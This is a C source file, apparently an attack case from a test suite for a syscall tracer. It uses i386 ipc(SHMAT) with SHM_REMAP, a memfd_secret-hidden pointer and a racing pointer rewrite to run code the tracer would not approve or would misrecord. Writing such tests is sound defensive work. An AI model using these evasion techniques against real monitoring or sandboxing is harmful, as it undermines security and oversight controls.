/*
 * Attack: i386 ipc(SHMAT) (int $0x80, call 21) returns 0 and stores the
 * attach address at a pointer in the program's memory, which the tracer
 * reads after the kernel wrote it.
 *
 *   attack_ipc_shmat_remap secret  the pointer is in memfd_secret memory (the
 *                            tracer cannot read it)
 *   attack_ipc_shmat_remap race    a thread keeps writing another address there
 *
 * A segment is written through a read-write attach; then ipc(SHMAT) attaches
 * it read-only with SHM_REMAP over a clean page of the program's own file
 * (mapped at a fixed low address), mprotect R-X of that page, run.
 *
 *   attack_ipc_shmat_remap launder a clean segment (never attached writable) is
 *                            attached read-only where the kernel chooses
 *                            while a thread keeps writing, at the pointer,
 *                            the address of an anonymous page holding code:
 *                            a tracer taking the pointer's word records that
 *                            page as the clean segment; mprotect it R-X, run.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/syscall.h>

#include "common.h"

#define I386_NR_IPC 117
#define IPC_SHMAT_CALL 21
#define CLEAN_ADDR 0x9a000000UL
#define DECOY_ADDR 0x9b000000UL

static volatile uint32_t *slot;
static atomic_int stop;

static long int80_5(long nr, long a, long b, long c, long d, long e)
{
	long ret;

	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e)
			 : "memory", "cc", "r8", "r9", "r10", "r11");
	return ret;
}

static void *rewriter(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop))
		*slot = (uint32_t)DECOY_ADDR;
	return NULL;
}

static int launder(void)
{
	size_t pg = tw_page();
	int id = shmget(IPC_PRIVATE, pg, IPC_CREAT | 0600);
	void *decoy = tw_mmap("decoy", (void *)DECOY_ADDR, pg, TW_RW, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	pthread_t thread;
	long rc;

	if (id < 0 || decoy == MAP_FAILED)
		return 1;
	tw_put_code(decoy);
	slot = mmap(NULL, pg, TW_RW, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (slot == MAP_FAILED)
		return 1;
	pthread_create(&thread, NULL, rewriter, NULL);
	rc = int80_5(I386_NR_IPC, IPC_SHMAT_CALL, id, SHM_RDONLY, (long)(uintptr_t)slot, 0);
	atomic_store(&stop, 1);
	pthread_join(thread, NULL);
	tw_step_raw("launder_shmat", "ipc", rc);
	if (tw_mprotect("decoy_rx", decoy, pg, TW_RX) == 0)
		tw_run("launder_call", decoy);
	shmctl(id, IPC_RMID, NULL);
	return tw_done();
}

int main(int argc, char **argv)
{
	size_t pg = tw_page();
	int race = argc > 1 && strcmp(argv[1], "race") == 0;
	int id = shmget(IPC_PRIVATE, pg, IPC_CREAT | 0600);
	int exe = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	pthread_t thread;
	void *rw, *clean;
	long rc;

	tw_init();
	if (argc > 1 && strcmp(argv[1], "launder") == 0)
		return launder();
	if (id < 0 || exe < 0)
		return 1;
	rw = shmat(id, NULL, 0);
	if (rw == (void *)-1)
		return 1;
	tw_put_code(rw);
	clean = tw_mmap("clean", (void *)CLEAN_ADDR, pg, PROT_READ, MAP_PRIVATE | MAP_FIXED, exe, 0);
	if (clean == MAP_FAILED || mmap((void *)DECOY_ADDR, pg, PROT_READ, MAP_PRIVATE | MAP_FIXED, exe, 0) == MAP_FAILED)
		return tw_done();
	if (race) {
		slot = mmap(NULL, pg, TW_RW, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	} else {
		int fd = (int)syscall(SYS_memfd_secret, 0);

		tw_step("secret_create", "memfd_secret", fd, errno);
		if (fd < 0 || ftruncate(fd, (off_t)pg) != 0)
			return tw_done();
		slot = mmap(NULL, pg, TW_RW, MAP_SHARED | MAP_32BIT, fd, 0);
	}
	if (slot == MAP_FAILED)
		return 1;
	if (race)
		pthread_create(&thread, NULL, rewriter, NULL);
	rc = int80_5(I386_NR_IPC, IPC_SHMAT_CALL, id, SHM_RDONLY | SHM_REMAP, (long)(uintptr_t)slot, (long)CLEAN_ADDR);
	if (race) {
		atomic_store(&stop, 1);
		pthread_join(thread, NULL);
	}
	tw_step_raw("ipc_shmat", "ipc", rc);
	tw_show_map("clean_after", clean);
	if (tw_mprotect("clean_rx", clean, pg, TW_RX) == 0 && memcmp(clean, TW_CODE, sizeof(TW_CODE)) == 0)
		tw_run("ipc_call", clean);
	shmctl(id, IPC_RMID, NULL);
	return tw_done();
}
